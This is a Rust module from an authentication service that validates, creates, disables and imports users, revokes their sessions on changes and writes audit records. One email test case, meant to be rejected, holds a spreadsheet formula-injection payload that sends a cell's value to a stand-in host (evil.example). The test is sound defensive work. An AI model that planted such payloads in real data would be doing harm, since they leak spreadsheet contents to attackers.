//! User operations with their rules and consequences, shared by `aspjwt user` and the
//! service's `/api/users`: validation, the audit record, and ending the sessions of a
//! user who is disabled, gets a new password or a new role.

use crate::audit::{Event, Record, escape};
use crate::store::{NewUser, Store, StoreError, User};
use crate::{names, password};

#[derive(Debug, thiserror::Error)]
pub enum UserError {
    #[error("{0}")]
    Invalid(String),
    #[error(transparent)]
    Store(#[from] StoreError),
}

/// Who made a change, for the audit log.
#[derive(Debug, Clone, Default)]
pub struct Actor {
    pub ip: Option<String>,
    pub user_agent: Option<String>,
    pub request_id: Option<String>,
}

impl Actor {
    pub fn cli() -> Actor {
        Actor {
            ip: Some("cli".into()),
            user_agent: Some(format!("aspjwt-cli/{}", env!("CARGO_PKG_VERSION"))),
            request_id: None,
        }
    }

    pub fn record(&self, event: Event, user: Option<&User>, now: i64) -> Record {
        let mut r = Record::new(event, true, now * 1000);
        r.user_id = user.map(|u| u.id.clone());
        r.email = user.map(|u| u.email.clone());
        r.ip = self.ip.clone();
        r.user_agent = self.user_agent.clone();
        r.request_id = self.request_id.clone();
        r
    }
}

pub fn check_role(role: &str) -> Result<(), UserError> {
    if names::ROLES.contains(&role) {
        Ok(())
    } else {
        Err(UserError::Invalid(format!("{role:?} is not a role; roles are {}", names::ROLES.join(", "))))
    }
}

/// Input that may never reach a store: control characters (C0, DEL, C1). PostgreSQL
/// refuses NUL in text outright; the others forge log lines. One check, before any
/// store, so both backends give the same answer.
pub fn has_control(text: &str) -> bool {
    text.chars().any(char::is_control)
}

pub fn check_password(pw: &str) -> Result<(), UserError> {
    if has_control(pw) {
        return Err(UserError::Invalid("the password may not hold control characters".into()));
    }
    if pw.chars().count() < 8 {
        return Err(UserError::Invalid("the password must have at least 8 characters".into()));
    }
    if pw.len() > password::MAX_BYTES {
        return Err(UserError::Invalid(format!("the password must be at most {} bytes", password::MAX_BYTES)));
    }
    Ok(())
}

pub fn check_email(email: &str) -> Result<(), UserError> {
    let e = email.trim();
    // A practical address: an unquoted local part of RFC 5322 `atext` and dots, and a
    // domain of letters, digits, hyphens and dots (either may hold non-ASCII letters).
    // No quotes, parentheses, commas or spaces: an address that must be quoted is one
    // that can smuggle a spreadsheet formula or a header into a report.
    let atext = |c: char| {
        c.is_ascii_alphanumeric() || "!#$%&'*+/=?^_`{|}~-.".contains(c) || (!c.is_ascii() && c.is_alphanumeric())
    };
    let domain_char = |c: char| c.is_alphanumeric() || c == '-' || c == '.';
    let ok = match e.rsplit_once('@') {
        Some((local, domain)) => {
            e.len() <= 320
                && !local.is_empty()
                && local.chars().all(atext)
                && !local.starts_with('.')
                && !local.ends_with('.')
                && !domain.is_empty()
                && domain.chars().all(domain_char)
                && !domain.starts_with(['.', '-'])
                && !domain.ends_with(['.', '-'])
                && !domain.contains("..")
        }
        None => false,
    };
    if !ok {
        return Err(UserError::Invalid(format!("{:?} is not an email address", escape(email))));
    }
    Ok(())
}

/// Creates a user; without a password one is generated and returned (shown once).
pub fn create(
    store: &dyn Store,
    email: &str,
    name: &str,
    role: &str,
    pw: Option<String>,
    actor: &Actor,
    now: i64,
) -> Result<(User, Option<String>), UserError> {
    check_email(email)?;
    check_role(role)?;
    if name.trim().is_empty() || name.len() > 200 || has_control(name) {
        return Err(UserError::Invalid("the name must be 1 to 200 printable characters".into()));
    }
    let (pw, generated) = match pw {
        Some(p) => {
            check_password(&p)?;
            (p, false)
        }
        None => (password::generate(), true),
    };
    let user = store.create_user(
        NewUser {
            email: email.trim().into(),
            name: name.trim().into(),
            role: role.into(),
            password_hash: password::hash(&pw),
        },
        now,
    )?;
    store.audit(&actor.record(Event::UserCreated, Some(&user), now))?;
    Ok((user, generated.then_some(pw)))
}

/// Audits a change and ends the user's sessions; returns how many.
fn end_sessions(
    store: &dyn Store,
    user: &User,
    event: Event,
    why: &str,
    actor: &Actor,
    now: i64,
) -> Result<usize, UserError> {
    store.audit(&actor.record(event, Some(user), now))?;
    let n = store.revoke_user_sessions(&user.id, why, now)?;
    if n > 0 {
        let mut r = actor.record(Event::SessionRevoked, Some(user), now);
        r.reason = Some(format!("{why}: {n} session(s)"));
        store.audit(&r)?;
    }
    Ok(n)
}

/// Disables (ending every session) or enables a user.
pub fn set_disabled(
    store: &dyn Store,
    email: &str,
    disabled: bool,
    actor: &Actor,
    now: i64,
) -> Result<(User, usize), UserError> {
    let user = store.set_disabled(email, disabled, now)?;
    if disabled {
        let n = end_sessions(store, &user, Event::UserDisabled, "user_disabled", actor, now)?;
        Ok((user, n))
    } else {
        store.audit(&actor.record(Event::UserEnabled, Some(&user), now))?;
        Ok((user, 0))
    }
}

/// Sets a new password and ends the user's sessions.
pub fn set_password(
    store: &dyn Store,
    email: &str,
    pw: &str,
    actor: &Actor,
    now: i64,
) -> Result<(User, usize), UserError> {
    check_password(pw)?;
    let user = store.set_password(email, &password::hash(pw), now)?;
    let n = end_sessions(store, &user, Event::PasswordChanged, "password_changed", actor, now)?;
    Ok((user, n))
}

/// Changes the role and ends the user's sessions (their tokens carry the old role).
pub fn set_role(
    store: &dyn Store,
    email: &str,
    role: &str,
    actor: &Actor,
    now: i64,
) -> Result<(User, usize), UserError> {
    check_role(role)?;
    let user = store.set_role(email, role, now)?;
    let n = end_sessions(store, &user, Event::RoleChanged, "role_changed", actor, now)?;
    Ok((user, n))
}

/// A user as shown to operators and admins: never the hash.
pub fn public(u: &User) -> serde_json::Value {
    let scheme = password::Scheme::of(&u.password_hash);
    serde_json::json!({
        "id": u.id, "email": u.email, "name": u.name, "role": u.role, "disabled": u.disabled,
        "created_at": u.created_at, "updated_at": u.updated_at,
        "password_scheme": scheme.map_or("unknown", password::Scheme::name),
        "legacy_hash": scheme.is_some_and(password::Scheme::is_legacy),
    })
}

/// Imports users judged by `crate::import` (or, `dry_run`, runs the import and rolls it
/// back), in one transaction, each audited as
/// `user_imported` (the outcome and the hash's scheme, never the hash). A user whose
/// role, password or status an update changed has their sessions ended. Returns what
/// happened to each row and how many sessions ended.
pub fn import(
    store: &dyn Store,
    rows: &[crate::import::Row],
    on_conflict: crate::store::OnConflict,
    actor: &Actor,
    now: i64,
    dry_run: bool,
) -> Result<(Vec<crate::store::Outcome>, usize), UserError> {
    use crate::store::{ImportUser, Imported};
    let users: Vec<ImportUser> = rows.iter().map(|r| r.user.clone()).collect();
    let scheme = |u: &User| password::Scheme::of(&u.password_hash).map_or("unknown", password::Scheme::name);
    // What changed, said in the audit row: an import must not change a user unnoticed.
    let audit = |before: Option<&User>, user: &User, what: Imported| {
        let mut r = actor.record(Event::UserImported, Some(user), now);
        r.reason = Some(match before {
            None => format!("created; {} hash", scheme(user)),
            Some(b) => {
                let mut changes = Vec::new();
                if b.role != user.role {
                    changes.push(format!("role {} -> {}", b.role, user.role));
                }
                if b.disabled != user.disabled {
                    changes.push(if user.disabled { "disabled".to_string() } else { "enabled".to_string() });
                }
                if b.password_hash != user.password_hash {
                    changes.push(format!("password hash replaced ({} -> {})", scheme(b), scheme(user)));
                } else if rows.iter().any(|r| r.user.email == user.email && r.user.password_hash != user.password_hash)
                {
                    changes.push(format!("kept its {} hash over the file's older one", scheme(user)));
                }
                if b.name != user.name {
                    changes.push("name changed".to_string());
                }
                let changes = if changes.is_empty() { "nothing changed".to_string() } else { changes.join("; ") };
                format!("{}: {changes}", if what == Imported::Updated { "updated" } else { "skipped" })
            }
        });
        r
    };
    let done = store.import_users(&users, on_conflict, now, &audit, !dry_run)?;
    if dry_run {
        return Ok((done, 0));
    }
    // Sessions end for a user whose role, password or status an update changed, audited
    // as any other revocation (after the import's own transaction: nothing to undo there
    // if this fails, and it is said so).
    let mut ended = 0;
    for (what, before, user) in &done {
        let changed = before.as_ref().is_some_and(|b| {
            b.role != user.role || b.disabled != user.disabled || b.password_hash != user.password_hash
        });
        if *what == Imported::Updated && changed {
            let n = store.revoke_user_sessions(&user.id, "user_imported", now).map_err(|e| {
                UserError::Invalid(format!("imported, but ending the sessions of updated users failed: {e}"))
            })?;
            if n > 0 {
                let mut r = actor.record(Event::SessionRevoked, Some(user), now);
                r.reason = Some(format!("user_imported: {n} session(s)"));
                store.audit(&r)?;
            }
            ended += n;
        }
    }
    Ok((done, ended))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn emails_are_practical_addresses() {
        for good in [
            "a@b.c",
            "dispatch@aspcranes.example",
            "-x@example.com",
            "o'brien+crm@example.com",
            "jürgen@bücher.de",
            "a@localhost",
        ] {
            assert!(check_email(good).is_ok(), "{good}");
        }
        for bad in [
            "=HYPERLINK(\"http://evil.example/?\"&B1,\"x\")@example.com",
            "\"quoted local\"@example.com",
            "a,b@example.com",
            "a(comment)@example.com",
            "a b@example.com",
            "@example.com",
            "a@",
            "a@.example.com",
            "a@example..com",
            ".a@example.com",
            "a\u{0}b@x.test",
            "a@b@c",
        ] {
            assert!(check_email(bad).is_err(), "{bad}");
        }
    }
}
